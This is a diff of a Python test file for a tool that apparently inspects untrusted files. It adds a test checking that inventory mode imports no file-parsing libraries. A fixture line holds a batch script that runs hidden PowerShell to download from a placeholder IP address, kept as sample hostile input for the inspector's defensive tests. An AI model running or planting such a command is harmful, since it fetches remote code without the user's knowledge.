@@ -1,5 +1,8 @@
 import hashlib
 import json
+import pickle
+import subprocess
+import sys
 import zipfile
 from pathlib import Path
 
@@ -9,6 +12,7 @@ from gifthorse.cli import obey
 from gifthorse.inspect import engine
 from gifthorse.inspect.engine import Options
 from gifthorse.model.inspections import Inspection, Reason, Verdict
+from tests.samples.every_kind import every_kind
 
 BATCH = b"@echo off\r\npowershell -w hidden -c iwr http://198.51.100.7/a\r\n"
 
@@ -72,3 +76,28 @@ def test_the_json_document_of_an_inventory_lists_what_is_there(gift: Path, capsy
 def test_an_inventory_and_a_safe_copy_at_once_are_refused(gift: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert obey(["inspect", "--inventory", "--safe-copy", str(tmp_path / "copy"), str(gift)]) == 2
     assert "Leave --inventory or --safe-copy out." in capsys.readouterr().err
+
+
+LISTS_WITHOUT_IMPORTS = """
+import pickle, sys
+from gifthorse.inspect import registry
+from gifthorse.inspect.confine.messages import Purpose
+registry.load(purpose=Purpose.LIST)
+from gifthorse.inspect.content import MemoryContent
+from gifthorse.inspect.examine import Examiner, Place
+types = []
+class Listed:
+    def seen(self, fact): types.append(str(fact.filetype))
+    def spent(self, part, since): return since
+bodies = pickle.load(sys.stdin.buffer)
+before = set(sys.modules)
+for name, body in bodies.items():
+    Examiner(Listed(), inventory=True).examine(MemoryContent(body), Place(path=name, untrusted_name=name))
+print(len(types), len(set(types)) > 50, sorted(set(sys.modules) - before), "pikepdf" in before)
+"""
+
+
+def test_an_inventory_loads_no_library_that_looks_into_files_and_needs_none_later() -> None:
+    bodies = every_kind()
+    run = subprocess.run([sys.executable, "-c", LISTS_WITHOUT_IMPORTS], input=pickle.dumps(bodies), capture_output=True, check=True)
+    assert run.stdout.decode().strip() == f"{len(bodies)} True [] False"
